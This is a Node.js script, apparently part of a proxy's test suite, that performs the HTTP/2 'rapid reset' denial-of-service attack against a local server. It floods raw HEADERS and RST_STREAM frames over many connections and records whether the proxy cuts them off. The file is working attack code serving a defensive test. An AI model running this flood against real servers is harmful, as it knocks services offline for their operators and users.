/**
 * The rapid-reset attacker, in a process of its own so that its work does not slow the proxy under
 * test: `node rapid_reset_client.mjs <port> <connections> <pairs>` opens <connections> h2c
 * connections to 127.0.0.1:<port> and writes <pairs> HEADERS + RST_STREAM(CANCEL) frames on each
 * (raw frames, 50 pairs per write, as fast as its loop turns), reading and dropping what comes back.
 * Prints one JSON line: per connection, the pairs written and whether the proxy closed it (within
 * 3 s of the last write).
 */
import net from "node:net";

const [port, connections, pairs] = process.argv.slice(2).map(Number);
const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");
const PATH = Buffer.from("/slow?delay=2000", "latin1");

function frame(type, flags, stream, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** GET PATH with END_STREAM (HPACK: :method GET, :scheme http, literal :path and :authority). */
const BLOCK = Buffer.concat([
  Buffer.from([0x82, 0x86, 0x04, PATH.length]),
  PATH,
  Buffer.from([0x01, 1, 0x61]),
]);
const CANCEL = Buffer.from([0, 0, 0, 8]);

async function attack() {
  const socket = net.connect(port, "127.0.0.1");
  socket.on("error", () => socket.destroy());
  socket.resume();
  const closed = new Promise((resolve) => socket.once("close", () => resolve(true)));
  await new Promise((resolve) => socket.once("connect", resolve));
  socket.write(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))]));
  let sent = 0;
  while (sent < pairs && !socket.destroyed) {
    const batch = [];
    for (let i = 0; i < 50 && sent < pairs; i++, sent++) {
      const id = 2 * sent + 1;
      batch.push(frame(1, 0x5, id, BLOCK), frame(3, 0, id, CANCEL));
    }
    socket.write(Buffer.concat(batch));
    await new Promise((resolve) => setImmediate(resolve));
  }
  const closedByProxy = await Promise.race([
    closed,
    new Promise((resolve) => setTimeout(() => resolve(false), 3000)),
  ]);
  socket.destroy();
  return { sent, closedByProxy };
}

const results = await Promise.all(Array.from({ length: connections }, attack));
process.stdout.write(`${JSON.stringify(results)}\n`);
